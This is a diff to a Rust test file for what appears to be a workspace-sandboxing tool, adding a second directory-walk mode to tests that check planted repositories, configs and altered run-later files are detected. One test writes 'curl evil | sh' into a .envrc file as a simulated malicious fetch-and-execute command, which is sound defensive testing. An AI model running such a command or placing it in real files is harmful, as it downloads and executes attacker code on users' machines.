@@ -5,7 +5,7 @@
 use std::os::unix::fs::PermissionsExt;
 use std::path::Path;
 
-use super::{Findings, Inputs, Left, Outcome, Watch};
+use super::{Executables, Findings, Inputs, Left, Outcome, Watch};
 
 /// A workspace holding a repository (`.git`) and a `src/` directory.
 fn workspace(root: &Path) -> Inputs {
@@ -23,16 +23,52 @@ fn workspace(root: &Path) -> Inputs {
 }
 
 fn sweep(change: impl Fn(&Path)) -> (tempfile::TempDir, Findings) {
+    sweep_by(Walk::Whole, change)
+}
+
+/// How the sweep finds what changed in the workspace.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Walk {
+    /// Every directory (the executables are listed).
+    Whole,
+    /// The directories noted at the start that changed, and new ones.
+    Changed,
+}
+
+fn sweep_by(walk: Walk, change: impl Fn(&Path)) -> (tempfile::TempDir, Findings) {
     let dir = tempfile::tempdir().unwrap();
     let root = dir.path().canonicalize().unwrap();
-    let inputs = workspace(&root);
+    let mut inputs = workspace(&root);
+    if walk == Walk::Changed {
+        inputs.directories = Some(directories(&root));
+    }
     // The set-up happened before the run, as the user's files did: past
     // the file clock's tick (at most 10 ms), so their `ctime` is older.
     std::thread::sleep(std::time::Duration::from_millis(25));
     let watch = Watch::before(inputs);
     change(&root);
-    let found = watch.after();
+    let found = watch.after(match walk {
+        Walk::Whole => Executables::List,
+        Walk::Changed => Executables::Skip,
+    });
     (dir, found)
+}
+
+/// Every directory below `root` and itself, but for what `.git` holds,
+/// as the jail's start-up search lists them.
+fn directories(root: &Path) -> Vec<std::path::PathBuf> {
+    let mut found = vec![root.to_path_buf()];
+    let mut i = 0;
+    while i < found.len() {
+        let dir = found[i].clone();
+        i += 1;
+        for entry in std::fs::read_dir(&dir).unwrap().flatten() {
+            if entry.file_type().unwrap().is_dir() && entry.file_name() != ".git" {
+                found.push(entry.path());
+            }
+        }
+    }
+    found
 }
 
 fn lefts(found: &Findings) -> Vec<(String, Left)> {
@@ -50,14 +86,18 @@ fn lefts(found: &Findings) -> Vec<(String, Left)> {
 
 #[test]
 fn what_an_ordinary_build_does_sets_nothing_aside() {
-    let (_dir, found) = sweep(|root| {
-        std::fs::write(root.join(".git/objects/ab"), "x").unwrap();
-        std::fs::write(root.join(".git/index"), "x").unwrap();
-        std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/other\n").unwrap();
-        std::fs::write(root.join("src/main.rs"), "x").unwrap();
-        std::fs::create_dir_all(root.join("target/debug")).unwrap();
-    });
-    assert!(found.items.is_empty(), "{:?}", found.items);
+    for walk in [Walk::Whole, Walk::Changed] {
+        let (_dir, found) = sweep_by(walk, ordinary_build);
+        assert!(found.items.is_empty(), "{walk:?}: {:?}", found.items);
+    }
+}
+
+fn ordinary_build(root: &Path) {
+    std::fs::write(root.join(".git/objects/ab"), "x").unwrap();
+    std::fs::write(root.join(".git/index"), "x").unwrap();
+    std::fs::write(root.join(".git/HEAD"), "ref: refs/heads/other\n").unwrap();
+    std::fs::write(root.join("src/main.rs"), "x").unwrap();
+    std::fs::create_dir_all(root.join("target/debug")).unwrap();
 }
 
 #[test]
@@ -114,8 +154,12 @@ fn planted_repositories_and_configs_are_set_aside() {
             &[("HEAD", Left::BrokenHead)],
         ),
     ];
-    for (what, plant, expected) in cases {
-        let (dir, found) = sweep(plant);
+    for ((what, plant, expected), walk) in cases
+        .into_iter()
+        .flat_map(|case| [(case, Walk::Whole), (case, Walk::Changed)])
+    {
+        let what = format!("{what} ({walk:?})");
+        let (dir, found) = sweep_by(walk, plant);
         let mut got = lefts(&found);
         got.sort_by(|a, b| a.0.cmp(&b.0));
         let want: Vec<(String, Left)> = expected.iter().map(|(n, l)| (n.to_string(), *l)).collect();
@@ -211,21 +255,35 @@ fn executables_the_run_wrote_are_listed_and_left() {
 /// and left alone is not the run's; written again, it is.
 #[test]
 fn run_later_files_there_at_the_start_are_compared_with_what_they_were() {
-    for touch in [false, true] {
+    for (touch, walk) in [false, true]
+        .into_iter()
+        .flat_map(|t| [(t, Walk::Whole), (t, Walk::Changed)])
+    {
         let dir = tempfile::tempdir().unwrap();
         let root = dir.path().canonicalize().unwrap();
         let mut inputs = workspace(&root);
         std::fs::write(root.join(".envrc"), "export A=1\n").unwrap();
         inputs.existing.push(root.join(".envrc"));
+        if walk == Walk::Changed {
+            inputs.directories = Some(directories(&root));
+        }
         let watch = Watch::before(inputs);
         if touch {
-            std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
+            // In place: the directory holding it does not change.
+            let mut file = std::fs::OpenOptions::new()
+                .append(true)
+                .open(root.join(".envrc"))
+                .unwrap();
+            std::io::Write::write_all(&mut file, b"curl evil | sh\n").unwrap();
         }
-        let found = watch.after();
+        let found = watch.after(match walk {
+            Walk::Whole => Executables::List,
+            Walk::Changed => Executables::Skip,
+        });
         assert_eq!(
             found.items.len(),
             usize::from(touch),
-            "{touch}: {:?}",
+            "{touch} {walk:?}: {:?}",
             found.items
         );
     }
